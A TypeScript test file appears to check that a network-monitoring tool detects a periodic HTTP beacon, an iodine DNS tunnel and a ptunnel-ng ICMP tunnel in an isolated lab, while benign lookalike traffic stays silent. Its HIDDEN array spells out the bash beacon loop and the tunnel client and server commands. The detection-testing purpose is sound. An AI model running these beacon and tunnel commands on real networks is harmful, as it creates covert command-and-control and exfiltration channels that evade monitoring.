/** A beacon, and tunnels through DNS (iodine) and ICMP (ptunnel-ng), beside programs that ask as regularly or for as odd names. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { sleep } from '../e2e/lab.ts'
import { createAttackLab, GATEWAY, type AttackHost, type FoundAlert } from './attack-lab.ts'

const lab = createAttackLab()
const folder = mkdtempSync(join(tmpdir(), 'netscope-c2-'))
const WEB = `${process.execPath} ${join(import.meta.dirname, 'outside-server.ts')}`
const [PAGES, TUNNELS, NAMES] = ['203.0.113.10', '203.0.113.90', '203.0.113.53']
const [BEACON, DNS_TUNNEL, ICMP_TUNNEL] = ['10.78.2.1', '10.78.2.2', '10.78.2.3']

interface Hidden {
  name: string
  v4: string
  commands: readonly string[]
  detector: string
  technique: string
  dst: string
  /**
   * Until it must be found. The beacon calls every two seconds and twenty regular calls are the evidence, which are 40
   * seconds; the issue allows ten minutes.
   */
  seconds: number
}

const HIDDEN: readonly Hidden[] = [
  {
    name: 'a beacon of two seconds',
    v4: BEACON,
    commands: [
      `bash -c 'while :; do curl -s -o /dev/null -d id=a81f http://${TUNNELS}/api/orders; sleep 1.$((85 + RANDOM % 14)); done'`,
    ],
    detector: 'beacon',
    technique: 'T1071.001',
    dst: TUNNELS,
    seconds: 100,
  },
  {
    name: 'iodine through a resolver',
    v4: DNS_TUNNEL,
    commands: [
      `iodine -f -r -P secret ${GATEWAY.v4} t.tunnel.test`,
      `bash -c 'while :; do ping -c 20 -i 0.2 -s 300 192.168.200.1; sleep 1; done'`,
    ],
    detector: 'dns-tunnel',
    technique: 'T1071.004',
    dst: GATEWAY.v4,
    seconds: 60,
  },
  {
    name: 'ptunnel-ng',
    v4: ICMP_TUNNEL,
    commands: [
      `ptunnel-ng -p${TUNNELS} -l8000 -r127.0.0.1 -R80 -o/dev/null`,
      `bash -c 'sleep 2; while :; do curl -s -m 10 -o /dev/null http://127.0.0.1:8000/page/[1-5]; sleep 0.5; done'`,
    ],
    detector: 'icmp-tunnel',
    technique: 'T1095',
    dst: TUNNELS,
    seconds: 60,
  },
]

const lookUp = 'dig +short +time=1 +tries=1'
/** Who does what looks like it. */
const TWINS: Readonly<Record<string, string>> = {
  '10.78.4.1': `curl -s -o /dev/null --rate 30/m http://${PAGES}/api/news?[1-300]`,
  '10.78.4.2': `bash -c 'while :; do printf "#%047d" 0 | timeout 1 nc -u -w 1 ${PAGES} 123 >/dev/null; sleep 2; done'`,
  '10.78.4.3': `bash -c 'while :; do ${lookUp} @${GATEWAY.v4} a$((RANDOM % 40))-b$((RANDOM % 40)).r$((RANDOM % 9)).edge-static.k8s-eu-central-1.cdn.test; sleep 0.3; done'`,
  '10.78.4.4': `bash -c 'while :; do for name in mail.test _spf.mail.test _dmarc.mail.test k1._domainkey.mail.test; do for type in TXT MX DNSKEY DS; do ${lookUp} +dnssec @${GATEWAY.v4} $name $type; sleep 0.1; done; done; done'`,
  '10.78.4.5': `bash -c 'while :; do ${lookUp} -p 5353 @224.0.0.251 _ipp._tcp.local PTR; sleep 2; done'`,
  '10.78.4.6': `ping -q -i 0.2 ${PAGES}`,
  '10.78.4.7': `ping -q -i 0.5 -s 1400 ${PAGES}`,
  '10.78.4.8': `bash -c 'while :; do curl -s -o /dev/null http://${PAGES}/page/$((RANDOM % 40)); sleep $((1 + RANDOM % 8)); done'`,
  '10.78.4.9': `bash -c 'while :; do for at in 10.78.5.1 10.78.5.2 10.78.5.3; do curl -s -o /dev/null http://$at/api/metrics; done; sleep 2; done'`,
}

const NAMES_OF_OUTSIDE = `
address=/cdn.test/${PAGES}
txt-record=mail.test,v=spf1 include:_spf.mail.test ip4:203.0.113.0/24 -all
txt-record=_spf.mail.test,v=spf1 ip4:198.51.100.0/24 -all
txt-record=_dmarc.mail.test,v=DMARC1; p=reject; rua=mailto:dmarc@mail.test
txt-record=k1._domainkey.mail.test,v=DKIM1; k=rsa; p=${'MIGfMA0GCSqGSIb3DQEBAQUAA4GN'.repeat(4)}
mx-host=mail.test,mx.mail.test,10
`

/** dnsmasq with nothing but what `lines` say. */
const resolver = (name: string, lines: string): string => {
  const file = join(folder, name)
  writeFileSync(file, `no-resolv\nno-hosts\nlog-facility=/dev/null\npid-file=\n${lines}\n`)
  return `/usr/sbin/dnsmasq -k -u root -C ${file}`
}

const found = new Map<string, FoundAlert | string>()
const hide = async (host: AttackHost, hidden: Hidden): Promise<void> => {
  const startMs = Date.now()
  const running = hidden.commands.map((command) => host.start(command))
  const result = await lab
    .waitForAlert({ detector: hidden.detector, src: hidden.v4 }, hidden.seconds, startMs)
    .catch((error: unknown) => `${String(error)}\n${running[0]?.output().slice(-800)}`)
  found.set(hidden.name, result)
}

beforeAll(async () => {
  lab.up()
  const outside = lab.addHost({ v4: PAGES, also: [NAMES] })
  const tunnels = lab.addHost({ v4: TUNNELS })
  const machines = lab.addHost({ v4: '10.78.5.1', also: ['10.78.5.2', '10.78.5.3'] })
  const hosts = HIDDEN.map(({ v4 }) => lab.addHost({ v4 }))
  const twins = Object.entries(TWINS).map(
    ([v4, command]) => [lab.addHost({ v4 }), command] as const,
  )
  outside.start(`${WEB} ${folder} ${PAGES}`)
  outside.start(resolver('outside.conf', NAMES_OF_OUTSIDE))
  machines.start(`${WEB} ${folder} 10.78.5.1 10.78.5.2 10.78.5.3`)
  tunnels.start(`${WEB} ${folder} ${TUNNELS} 127.0.0.1`)
  tunnels.start(`iodined -f -c -P secret 192.168.200.1/24 t.tunnel.test`)
  tunnels.start('ptunnel-ng -o/dev/null')
  lab.startHere(resolver('here.conf', `server=${NAMES}\nserver=/t.tunnel.test/${TUNNELS}`))
  await lab.netscope()
  for (const [twin, command] of twins) twin.start(command)
  await Promise.all(HIDDEN.map((hidden, i) => hide(hosts[i]!, hidden)))
  await sleep(5000)
  console.log(
    HIDDEN.map(({ name }) => {
      const result = found.get(name)!
      return `${name}: ${typeof result === 'string' ? 'not found' : `${result.afterMs} ms, ${result.alert.evidence.reason}`}`
    }).join('\n'),
  )
}, 240_000)
afterAll(async () => {
  await lab.down()
  rmSync(folder, { recursive: true, force: true })
}, 30_000)

it.each(HIDDEN)(
  '$name: is found once, with who and whom',
  ({ name, v4, detector, technique, dst }) => {
    const result = found.get(name)!
    if (typeof result === 'string') throw new Error(result)
    const all = lab.loudAlertsOf(({ src, dst: to }) => src === v4 || to === v4)
    expect(all).toMatchObject([{ detector, technique, src: v4, dst }])
  },
)

it('who asks as regularly or for as odd names raises no alert', () => {
  const hidden = new Set(HIDDEN.map(({ v4 }) => v4))
  const others = lab.loudAlertsOf(({ src }) => !hidden.has(src))
  expect(others.map(({ title, evidence }) => `${title}: ${evidence.reason}`)).toEqual([])
})
